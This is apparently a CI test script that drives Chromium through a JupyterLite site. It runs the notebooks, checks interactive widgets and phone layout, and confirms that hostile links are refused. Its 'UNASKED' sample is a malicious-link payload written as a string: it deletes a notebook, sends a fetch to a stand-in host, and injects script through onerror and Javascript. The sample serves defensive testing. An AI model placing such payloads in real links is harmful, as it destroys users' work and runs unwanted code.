"""Visit a JupyterLite site in Chromium: run every notebook, use it as a reader would, and print all problems as JSON.

    python .ci/lite/visit.py ADDRESS CHROMIUM PICTURES         (started by `.ci/lite_works.py`)

Every address outside the site is refused. The notebooks run with JupyterLab's own command, in two pages at the same
time. A kernel takes long to start, so each page has one for all its notebooks, which is reset before each of them.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
import traceback
from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.async_api import Browser, BrowserContext, Page, async_playwright

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))
PATIENCE_MS = 5 * 60_000
SCREEN = {"width": 1366, "height": 768}
PHONE = {"width": 390, "height": 800}

READY = "async () => { const p = jupyterapp.shell.currentWidget; await p.context.ready; await p.sessionContext.ready; }"
SESSION = """((widget) => widget?.sessionContext ?? widget?.console?.sessionContext)(
    window.jupyterapp?.shell?.currentWidget)"""
STARTED = f"() => ['idle', 'busy'].includes({SESSION}?.session?.kernel?.status)"
RUN = "() => jupyterapp.commands.execute('notebook:run-all-cells')"
CELLS = """() => jupyterapp.shell.currentWidget.content.widgets.filter((cell) => cell.model.type === 'code')
    .map((cell) => [cell.model.id, cell.model.executionCount, cell.model.sharedModel.toJSON().outputs])"""
SHOW_CELL = """(id) => { const { content } = jupyterapp.shell.currentWidget;
    content.activeCellIndex = content.widgets.findIndex((cell) => cell.model.id === id);
    return content.scrollToItem(content.activeCellIndex, 'start'); }"""
TAKE = """async (file) => jupyterapp.shell.currentWidget.content.model.fromJSON(await (await fetch(file)).json())"""
RUN_CODE = f"""async (code) => {{ let said = '';
    const future = {SESSION}.session.kernel.requestExecute({{ code }});
    future.onIOPub = (message) => {{ said += message.content.text ?? message.content.evalue ?? ''; }};
    await future.done; return said; }}"""
CHANGE_CELL = """async ([id, source]) => { const { content, sessionContext } = jupyterapp.shell.currentWidget;
    content.activeCellIndex = content.widgets.findIndex((cell) => cell.model.id === id);
    content.activeCell.model.sharedModel.setSource(source);
    await jupyterapp.commands.execute('notebook:run-cell'); return content.activeCell.outputArea.node.innerText; }"""

KEEP_A_CHANGE = """async (words) => { const { context, content } = jupyterapp.shell.currentWidget;
    content.widgets[0].model.sharedModel.setSource(words); await context.save(); }"""
KEPT = """async (name) => { const { contents } = jupyterapp.serviceManager;
    const [folder, notebook] = [await contents.get('', { content: true }), await contents.get(name, { content: true })];
    return [folder.content.map((file) => file.name), notebook.content.cells[0].source]; }"""

FIRST = "00_start_here.ipynb"
RIGHT = "import math\nanswer = -math.cos(5)\n\ncheck.ex_1(answer)"
LAB = "07_ways_to_remember.ipynb"

LEFT = "left_by_a_link.txt"
UNASKED = f"""import os
from IPython.display import HTML, Javascript, display
from js import fetch
open({LEFT!r}, "w").write("ran")
if os.path.exists({FIRST!r}):
    os.remove({FIRST!r})
fetch("https://elsewhere.example/?taken")
display(HTML("<img src=x onerror='window.ranUnasked = 1'>"), Javascript("window.ranUnasked = 1"))"""
"""A program that a hostile link could contain: it leaves a file, deletes work, sends data away and runs a script."""
ASKS = f"path={FIRST}&kernel=python&execute=1&fromURL={quote('https://elsewhere.example/a.ipynb', safe='')}"
PAGES = ("lab", "notebooks", "tree", "repl", "consoles", "edit")
"""The pages of JupyterLite, including those that the site doesn't have."""


def said(outputs: list[dict[str, Any]]) -> list[str]:
    """Return the texts of a cell's outputs: what it printed, and each result. In the browser, NumPy's int is int32."""
    printed = "".join("".join(one["text"]) for one in outputs if one.get("name") == "stdout")
    results = [
        "".join(one["data"]["text/plain"])
        for one in outputs
        if one["output_type"] == "execute_result"
    ]
    return [text.replace("int32", "int64") for text in (printed, *results)]


def compare(path: Path, ran: list[list[Any]]) -> list[str]:
    """Return what differs from the saved notebook: errors, cells that didn't run, and other outputs, unless ignored."""
    here = {name: (count, outputs) for name, count, outputs in ran}
    wrong = []
    for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
        if cell["cell_type"] != "code":
            continue
        count, outputs = here[cell["id"]]
        place = f"{path.name}, {cell['id']}"
        errors = [
            f"{one['ename']}: {one['evalue']}" for one in outputs if one["output_type"] == "error"
        ]
        if errors or count is None:
            wrong.append(f"{place}: {' '.join(errors) or 'it did not run'}")
            continue
        if "nbval-ignore-output" in cell["metadata"].get("tags", []):
            continue
        if said(outputs) != said(cell["outputs"]):
            wrong.append(f"{place} shows\n{said(outputs)}\ninstead of\n{said(cell['outputs'])}")
    return wrong


async def until(page: Page, condition: str, arg: Any = None) -> None:
    """Wait until a condition holds. It polls by time, because a page in the background paints no frames."""
    await page.wait_for_function(condition, arg=arg, polling=300)


class Visit:
    """A visit to the site: the addresses that were refused, the problems found, and each notebook's run time."""

    def __init__(self, address: str, browser: Browser, pictures: Path) -> None:
        self.address = address
        self.browser = browser
        self.pictures = pictures
        self.refused: set[str] = set()
        self.wrong: list[str] = []
        self.seconds: dict[str, int] = {}

    async def context(self, **options: Any) -> BrowserContext:
        """Return a context with empty storage, like a new reader's browser, which refuses all other addresses."""
        context = await self.browser.new_context(**{"viewport": SCREEN, **options})
        context.set_default_timeout(PATIENCE_MS)
        await context.route("**/*", self._keep_here)
        return context

    async def _keep_here(self, route: Any) -> None:
        if route.request.url.startswith((self.address, "data:", "blob:")):
            return await route.continue_()
        self.refused.add(route.request.url)
        return await route.abort()

    async def open(self, context: BrowserContext, name: str) -> Page:
        """Open a notebook, and wait until its kernel runs."""
        page = await context.new_page()
        # A page with unsaved changes opens a dialog before it is left.
        page.on("dialog", lambda dialog: asyncio.ensure_future(dialog.accept()))
        await page.goto(f"{self.address}/lite/lab/index.html?path={name}")
        await until(page, "window.jupyterapp?.shell?.currentWidget?.content?.widgets?.length > 2")
        await page.evaluate(READY)
        return page

    async def run_notebooks(self, waiting: list[Path]) -> None:
        """Run the notebooks that wait, in one page and one kernel, and compare their outputs with the saved ones."""
        page = await self.open(await self.context(), waiting[0].name)
        await until(page, STARTED)
        while waiting:
            path = waiting.pop(0)
            begun = time.monotonic()
            await page.evaluate(RUN_CODE, "%reset -f")
            await page.evaluate(TAKE, f"{self.address}/lite/files/{path.name}")
            await page.evaluate(RUN)
            self.wrong += compare(path, await page.evaluate(CELLS))
            self.seconds[path.name] = round(time.monotonic() - begun)
            if path.name == LAB:
                await self.use_the_lab(page)
        await page.close()

    def expect(self, holds: bool, what: str) -> None:
        """Note a problem if a condition doesn't hold."""
        if not holds:
            self.wrong.append(what)

    async def read_the_first(self) -> None:
        """Use the first notebook: the note while Python starts, the player, a slider, the exercise, and progress."""
        context = await self.context()
        page = await self.open(context, FIRST)
        note = page.locator("#adl-starting")
        await note.wait_for()
        self.expect(
            "Python is starting" in await note.inner_text(),
            "the page doesn't show that Python is starting",
        )
        await page.screenshot(path=self.pictures / "starting.png")
        await until(page, STARTED)
        await note.wait_for(state="detached")
        await page.evaluate(RUN)
        await page.evaluate(SHOW_CELL, "first-play")
        player = page.locator(".adl-player").first
        await self.plays(page, "notebook 00", "5.5", "1.7163")
        await player.locator("input[aria-label=x1]").focus()
        await page.keyboard.press("Home")
        await until(page, "!document.querySelector('.adl-tape').innerText.includes('1.7163')")
        await page.screenshot(path=self.pictures / "slider.png")
        reply = await page.evaluate(CHANGE_CELL, ["ex-1", RIGHT])
        self.expect("passed" in reply, f"the correct answer doesn't pass: {reply}")
        await page.close()
        page = await self.open(context, FIRST)
        await until(page, STARTED)
        code = "from autodiff_lab.lessons import start_here\nprint(start_here.progress())"
        kept = await page.evaluate(RUN_CODE, code)
        self.expect("1 of 1" in kept, f"after a reload, progress is: {kept}")
        await page.close()

    async def shows(self, player: Any, what: str, text: str) -> None:
        """Check that a player shows a text."""
        self.expect(text in await player.inner_text(), f"{what}: the player doesn't show {text}")

    async def plays(self, page: Page, place: str, *numbers: str) -> None:
        """Step a player with keys: one step, and then to the end, where it shows its gradient."""
        player = page.locator(".adl-player").first
        await player.focus()
        await page.keyboard.press("Home")
        await page.keyboard.press("ArrowRight")
        await until(page, "document.querySelector('.adl-player').dataset.phase === 'record'")
        await page.keyboard.press("End")
        await until(page, "document.querySelector('.adl-player').dataset.phase === 'sweep'")
        for number in numbers:
            await self.shows(player, place, number)

    async def use_the_lab(self, page: Page) -> None:
        """Press a button of the lab, and wait until its picture changes."""
        await page.evaluate(SHOW_CELL, "lab")
        lab = page.locator(".adl-lab").first
        await lab.locator(".adl-lab-picture svg").first.wait_for()
        before = await lab.locator(".adl-lab-picture").inner_html()
        await lab.get_by_role("button", name="Sweep", exact=True).focus()
        await page.keyboard.press("Enter")
        moved = (
            "(before) => document.querySelector('.adl-lab .adl-lab-picture').innerHTML !== before"
        )
        await until(page, moved, before)
        await page.screenshot(path=self.pictures / "lab.png")

    async def open_hostile_links(self) -> None:
        """Open addresses that contain a program, after saving work: none may run, and the work must stay."""
        context, words = await self.context(), "# My own words"
        page = await self.open(context, FIRST)
        await page.evaluate(KEEP_A_CHANGE, words)
        await page.close()
        for name in PAGES:
            page = await context.new_page()
            address = f"{self.address}/lite/{name}/index.html?{ASKS}&code={quote(UNASKED)}"
            answer = await page.goto(address)
            if answer and answer.status == 404:
                await page.close()
                continue
            await until(page, STARTED)
            # long enough for a program from the address to reach the kernel's queue
            await page.wait_for_timeout(3000)
            await page.evaluate(RUN_CODE, "'what comes after it'")
            self.expect(
                await page.evaluate("window.ranUnasked") is None,
                f"{name} runs the script in its address",
            )
            self.expect(
                "code=" not in page.url, f"{name} keeps more of its address than the file to open"
            )
            await page.close()
        page = await self.open(context, LAB)
        files, first = await page.evaluate(KEPT, FIRST)
        self.expect(LEFT not in files, "the program in an address ran")
        self.expect(
            "".join(first) == words,
            f"after a link was opened, the reader's notebook begins: {first}",
        )
        await page.close()

    async def use_a_phone(self) -> None:
        """Use the player on a phone: it fits, plays after a tap, and steps."""
        page = await (await self.context(viewport=PHONE, has_touch=True)).new_page()
        await page.goto(f"{self.address}/lite/notebooks/index.html?path={FIRST}")
        await until(page, STARTED)
        await page.evaluate(RUN)
        await page.evaluate(SHOW_CELL, "first-play")
        player = page.locator(".adl-player").first
        await player.locator('[data-action="play"]').first.tap()
        await until(page, "document.querySelector('.adl-player')?.dataset.playing")
        await until(page, "document.querySelector('.adl-player').dataset.step > 3")
        await page.screenshot(path=self.pictures / "phone.png")
        box = await player.bounding_box()
        fits = box is not None and box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"] + 1
        self.expect(fits, f"on a phone the player is at {box}")
        await player.locator('[data-action="play"]').first.tap()
        await self.plays(page, "on a phone", "5.5", "1.7163")
        await page.screenshot(path=self.pictures / "phone-end.png")
        await page.close()

    async def all(self) -> None:
        """Do everything, in two pages at the same time."""
        waiting = list(NOTEBOOKS)

        async def reader() -> None:
            await self.read_the_first()
            await self.open_hostile_links()
            await self.use_a_phone()
            if waiting:
                await self.run_notebooks(waiting)

        for done in await asyncio.gather(
            reader(), self.run_notebooks(waiting), return_exceptions=True
        ):
            if isinstance(done, BaseException):
                self.wrong.append("".join(traceback.format_exception(done)[-4:]))
        self.wrong += [
            f"{path.name} was not run" for path in NOTEBOOKS if path.name not in self.seconds
        ]


async def main(address: str, chromium: str, pictures: str) -> None:
    """Visit the site, and print all problems as JSON."""
    async with async_playwright() as playwright:
        flags = [
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--disable-background-networking",
        ]
        browser = await playwright.chromium.launch(executable_path=chromium, args=flags)
        visit = Visit(address, browser, Path(pictures))
        await visit.all()
        await browser.close()
    print(
        json.dumps(
            {"refused": sorted(visit.refused), "wrong": visit.wrong, "seconds": visit.seconds}
        )
    )


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
